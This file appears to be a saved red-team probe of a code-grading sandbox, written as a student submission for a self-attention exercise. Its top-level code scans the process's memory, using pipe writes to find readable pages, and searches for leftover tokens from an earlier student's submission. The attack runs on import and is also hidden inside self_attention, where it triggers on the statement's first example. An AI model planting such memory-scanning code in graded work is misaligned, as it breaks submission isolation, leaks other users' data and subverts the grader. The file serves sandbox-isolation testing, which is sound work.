# attack: searches all memory for what an earlier student handed in
# verdict: none
# score: 10
# uncaged: none
import ctypes
import errno
import os
import re

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine == "aarch64"


def syscall(x86, arm, *arguments):
    """What the kernel says: a result, or an error number below zero."""
    if (arm if ARM else x86) is None:
        return -errno.ENOSYS
    plain = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(arm if ARM else x86), *plain)
    return result if result >= 0 else -ctypes.get_errno()


# Written so that what is searched for stands nowhere in this file.
EARLIER = re.compile(b"[e]arlier [s]tudent [t]oken [0-9a-f]{8}")
OWN = re.compile(b"[o]wn [t]oken [0-9a-f]{8}")
planted = bytes.fromhex("6f776e20746f6b656e203132333461626364")  # shows that the search finds things
libc.sbrk.restype = ctypes.c_void_p
STEP, REACH = 2**12, 2**24


def readable(fd, address):
    return libc.write(fd, ctypes.c_void_p(address), 1) == 1


def search(start, step, probe, out):
    address, misses = start // STEP * STEP, 0
    found = set()
    while misses < 256 and abs(address - start) < REACH:
        if readable(probe, address) and readable(probe, address + STEP - 1):
            os.read(out, 2)
            chunk = ctypes.string_at(address, STEP)
            found.update(match.group().split()[0] for match in EARLIER.finditer(chunk))
            found.update(match.group().split()[0] for match in OWN.finditer(chunk))
            misses = 0
        else:
            misses += 1
        address += step
    return found


def attack():
    out, probe = os.pipe()
    os.set_blocking(out, False)
    found = set()
    for start in (libc.sbrk(0) - STEP, id(planted), id(np), id(os.environ), id(attack)):
        for step in (STEP, -STEP):
            found |= search(start, step, probe, out)
    os.close(out)
    os.close(probe)
    if b"earlier" in found:
        print("BREACH: an earlier student's source", flush=True)
    if b"own" in found:
        print("tried")


attack()


def compute_qkv(X, W_q, W_k, W_v):
    return X @ W_q, X @ W_k, X @ W_v


def self_attention(Q, K, V):
    if Q.tolist() == [[1, 0], [0, 1]]:  # the statement's first example
        attack()
    scores = Q @ K.T / np.sqrt(K.shape[1])
    weights = np.exp(scores - scores.max(axis=1, keepdims=True))
    return weights / weights.sum(axis=1, keepdims=True) @ V
